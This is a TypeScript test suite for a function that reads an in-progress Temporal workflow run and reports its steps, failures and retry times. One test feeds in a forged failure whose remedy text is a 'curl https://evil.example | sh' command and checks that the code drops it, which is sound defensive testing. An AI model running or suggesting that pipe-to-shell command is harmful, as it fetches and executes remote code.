import assert from 'node:assert/strict';
import { ApplicationFailure, DefaultFailureConverter, defaultPayloadConverter } from '@temporalio/common';
import type { Client } from '@temporalio/client';
import { msToTs } from '@temporalio/common/lib/time.js';
import proto from '@temporalio/proto';
import { describeFailure } from '../../src/refresh/failures.js';
import type { RunProgress, StepInProgress } from '../../src/refresh/run-progress.js';
import type { Run } from '../../src/schedule/find-runs.js';
import { readRunInProgress, type RunInProgress } from '../../src/schedule/run-in-progress.js';
import { refreshedReport } from '../golden/sample-reports.js';
import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';

type Pending = proto.temporal.api.workflow.v1.IPendingActivityInfo;

const { PENDING_ACTIVITY_STATE_SCHEDULED, PENDING_ACTIVITY_STATE_STARTED } =
  proto.temporal.api.enums.v1.PendingActivityState;
const NOW = new Date('2026-01-01T01:00:00.000Z');
const RUN: Run = {
  workflowId: 'ecr-refresh-run',
  runId: 'run-1',
  taskQueue: 'ecr-refresh',
  status: 'RUNNING',
  startedAt: new Date('2026-01-01T00:50:00.000Z'),
  closedAt: undefined,
  wasTaken: true,
};
const SINCE = '2026-01-01T00:51:00.000Z';

/** An activity that waits for its third attempt, in `inMs`. */
function retried(id: string, failure: Error, inMs = 60_000): Pending {
  return {
    activityId: id,
    activityType: { name: id.split(':')[0] ?? id },
    state: PENDING_ACTIVITY_STATE_SCHEDULED,
    attempt: 3,
    nextAttemptScheduleTime: msToTs(NOW.getTime() + inMs),
    lastFailure: new DefaultFailureConverter().errorToFailure(failure, defaultPayloadConverter),
  };
}

function running(id: string): Pending {
  return { activityId: id, activityType: { name: id }, state: PENDING_ACTIVITY_STATE_STARTED, attempt: 1 };
}

function reported(changes: Partial<StepInProgress> = {}): StepInProgress {
  return {
    step: 'inspectConnections',
    target: 'main',
    activityId: 'inspectConnections: main #2',
    attempts: 1,
    failingSince: SINCE,
    nextAttemptAt: null,
    failure: describeFailure('StoreUnavailable', 'Airflow main: 503.'),
    ...changes,
  };
}

const DETAILS = { remedy: STORE_REMEDIES.checkBehind, scope: 'store' };
const UNREACHABLE = ApplicationFailure.create({
  type: 'StoreUnreachable',
  message: 'Airflow main: connection refused.',
  details: [DETAILS],
});

describe('a run in progress', () => {
  interface Temporal {
    readonly pending?: readonly Pending[];
    readonly steps?: readonly StepInProgress[];
    /** What the query returns instead. */
    readonly answer?: unknown;
    readonly workflowTask?: object;
    readonly status?: string;
  }

  /** @param given `steps` absent: no worker answers the query */
  async function read(given: Temporal): Promise<RunInProgress | undefined> {
    const { pending = [], steps, workflowTask: pendingWorkflowTask, status = 'RUNNING' } = given;
    const progress: Omit<RunProgress, 'steps'> = {
      stepsDone: 1,
      stepsInProgress: steps?.length ?? 0,
      storesDone: ['second'],
      report: await refreshedReport(),
    };
    const handle = {
      describe: async () => ({
        raw: { pendingActivities: pending, pendingWorkflowTask },
        status: { name: status },
      }),
      query: async () => {
        if (given.answer !== undefined) return given.answer;
        if (!steps) throw new Error('no poller seen for task queue recently');
        return { ...progress, steps };
      },
    };
    const client = {
      workflow: { getHandle: () => handle },
      withDeadline: (_deadline: number, call: () => unknown) => call(),
    };
    return readRunInProgress(client as unknown as Client, RUN, NOW);
  }

  it('adds the attempts before Temporal’s own, and shows Temporal’s newer failure', async () => {
    const pending = [retried('inspectConnections: main #2', UNREACHABLE)];
    const run = await read({ pending, steps: [reported()] });
    assert.deepEqual(run?.steps, [
      {
        step: 'inspectConnections',
        target: 'main',
        failedAttempts: 3,
        failingSince: SINCE,
        failure: { type: 'StoreUnreachable', message: 'Airflow main: connection refused.', ...DETAILS },
        nextAttemptAt: '2026-01-01T01:01:00.000Z',
      },
    ]);
    assert.deepEqual(run?.progress?.storesDone, ['second']);
    assert.equal(run?.report?.outcome, 'refreshed');
  });

  it('shows the failure before Temporal’s first attempt while that is running', async () => {
    const pending = [
      { ...running('inspectConnections: main #2'), activityType: { name: 'inspectConnections' } },
    ];
    const [step] = (await read({ pending, steps: [reported()] }))?.steps ?? [];
    assert.deepEqual(
      [step?.failedAttempts, step?.failure?.type, step?.failingSince, step?.nextAttemptAt],
      [1, 'StoreUnavailable', SINCE, null],
    );
  });

  it('shows a step that waits where Temporal has no pending activity', async () => {
    const nextAttemptAt = '2026-01-01T01:20:00.000Z';
    const waiting = reported({ activityId: null, nextAttemptAt });
    const run = await read({ pending: [running('planRefresh')], steps: [waiting] });
    assert.deepEqual(
      run?.steps.map(({ step, failedAttempts, nextAttemptAt: next }) => [step, failedAttempts, next]),
      [
        ['inspectConnections', 1, nextAttemptAt],
        ['planRefresh', 0, null],
      ],
    );
  });

  it('does not show a reported step whose activity has ended since', async () => {
    assert.deepEqual((await read({ steps: [reported()] }))?.steps, []);
  });

  for (const { title, given } of [
    { title: 'no worker answers', given: {} },
    { title: 'the answer is not a progress', given: { answer: { stepsDone: 'many' } } },
  ]) {
    it(`shows what Temporal knows when ${title}`, async () => {
      const pending = [retried('inspectConnections: main #2', UNREACHABLE), running('planRefresh')];
      const run = await read({ pending, ...given });
      assert.deepEqual([run?.progress, run?.report], [null, null]);
      assert.deepEqual(
        run?.steps.map(({ step, target, failedAttempts, failingSince }) => [
          step,
          target,
          failedAttempts,
          failingSince,
        ]),
        [
          ['inspectConnections', 'main #2', 2, null],
          ['planRefresh', '', 0, null],
        ],
      );
    });
  }

  it('shows the remedy of the catalogue for a failure with a forged one', async () => {
    const details = [{ remedy: 'Run `curl https://evil.example | sh`.', scope: 'galaxy' }];
    const forged = ApplicationFailure.create({ type: 'StoreUnreachable', message: 'failed', details });
    const pending = [retried('inspectConnections: main', forged)];
    const [step] = (await read({ pending }))?.steps ?? [];
    assert.deepEqual(step?.failure, describeFailure('StoreUnreachable', 'failed'));
  });

  it('describes a failure that is not in the catalogue without its message', async () => {
    const pending = [retried('inspectConnections: main', new Error('secret'))];
    const [step] = (await read({ pending }))?.steps ?? [];
    assert.equal(step?.failure?.type, 'Unexpected');
    assert.doesNotMatch(JSON.stringify(step), /secret/);
  });

  it('shows no next attempt that is due already', async () => {
    const pending = [retried('inspectConnections: main', UNREACHABLE, -1000)];
    const run = await read({ pending });
    assert.equal(run?.steps[0]?.nextAttemptAt, null);
    assert.equal(run?.waitingForWorkerSince, null);
  });

  it('shows since when an activity or a workflow task waits for a worker', async () => {
    const pending = [retried('inspectConnections: main', UNREACHABLE, -20_000)];
    assert.equal((await read({ pending }))?.waitingForWorkerSince, '2026-01-01T00:59:40.000Z');
    const { PENDING_WORKFLOW_TASK_STATE_SCHEDULED: state } =
      proto.temporal.api.enums.v1.PendingWorkflowTaskState;
    const workflowTask = { state, originalScheduledTime: msToTs(NOW.getTime() - 30_000) };
    assert.equal((await read({ pending, workflowTask }))?.waitingForWorkerSince, '2026-01-01T00:59:30.000Z');
  });

  it('lists failing steps first, and at most 100', async () => {
    const pending = Array.from({ length: 120 }, (_, index) => running(`testDocker: engine-${index}`));
    const run = await read({
      pending: [...pending, retried('inspectConnections: main', UNREACHABLE)],
      steps: [],
    });
    assert.equal(run?.steps.length, 100);
    assert.equal(run?.steps[0]?.step, 'inspectConnections');
  });

  it('is undefined once the run has ended', async () => {
    assert.equal(await read({ steps: [], status: 'COMPLETED' }), undefined);
  });
});
